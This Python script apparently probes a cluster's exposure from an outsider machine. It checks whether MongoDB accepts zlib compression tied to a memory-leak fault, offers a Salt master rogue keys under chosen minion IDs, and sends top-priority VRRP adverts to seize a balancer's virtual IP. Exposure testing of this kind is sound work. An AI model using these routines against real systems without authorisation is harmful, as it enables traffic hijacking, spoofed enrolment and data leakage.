"""Run on a machine of the cluster's network that is no node of it: tries what anybody may try.

    /opt/salt/bin/python stranger.py zlib DATABASE:PORT   # the compressors a mongod agrees to
    /opt/salt/bin/python stranger.py keys MASTER ID...    # offers the master a key for each ID
    /opt/salt/bin/python stranger.py vrrp BALANCER VIP    # says that it holds the address

Each prints what came of it as JSON.
"""

import json
import pathlib
import socket
import struct
import sys
import tempfile

PRIORITY = 255
VIRTUAL_ROUTER = 51


def zlib(address):
    """Ask a server for the compression whose fault gives its memory away."""
    import pymongo

    client = pymongo.MongoClient(f"mongodb://{address}", directConnection=True)
    return client.admin.command("hello", compression=["zlib", "snappy", "zstd"])["compression"]


def keys(master, *ids):
    """Offer a key of its own under each of the IDs; return how each was answered."""
    import salt.channel.client
    import salt.config
    import salt.crypt

    answers = {}
    with tempfile.TemporaryDirectory() as folder:
        salt.crypt.write_keys(folder, "minion", 2048)
        public = pathlib.Path(folder, "minion.pub").read_text(encoding="ascii")
        opts = salt.config.minion_config(None)
        opts.update(
            master_uri=f"tcp://{master}:4506", master_ip=master, pki_dir=folder, id="stranger"
        )
        for minion in ids:
            load = {"cmd": "_auth", "id": minion, "pub": public, "nonce": "n"}
            with salt.channel.client.ReqChannel.factory(opts, crypt="clear") as channel:
                answer = channel.send(load, timeout=10, tries=1)
            answers[minion] = answer.get("load", answer) if isinstance(answer, dict) else answer
    return json.loads(json.dumps(answers, default=str))


def vrrp(balancer, vip):
    """Send the holder adverts of the highest priority, from this machine's own address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect((balancer, 1))
        mine = probe.getsockname()[0]
    advert = struct.pack(
        "!BBBBHH4s", 0x31, VIRTUAL_ROUTER, PRIORITY, 1, 20, 0, socket.inet_aton(vip)
    )
    pseudo = socket.inet_aton(mine) + socket.inet_aton(balancer) + struct.pack("!BBH", 0, 112, 12)
    advert = advert[:6] + struct.pack("!H", checksum(pseudo + advert)) + advert[8:]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 112) as raw:
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        for _ in range(20):
            raw.sendto(advert, (balancer, 0))
    return {"sent": 20, "from": mine}


def checksum(data):
    """Return the sum of the internet protocols over a header."""
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


if __name__ == "__main__":
    way = {"zlib": zlib, "keys": keys, "vrrp": vrrp}[sys.argv[1]]
    print(json.dumps(way(*sys.argv[2:])))
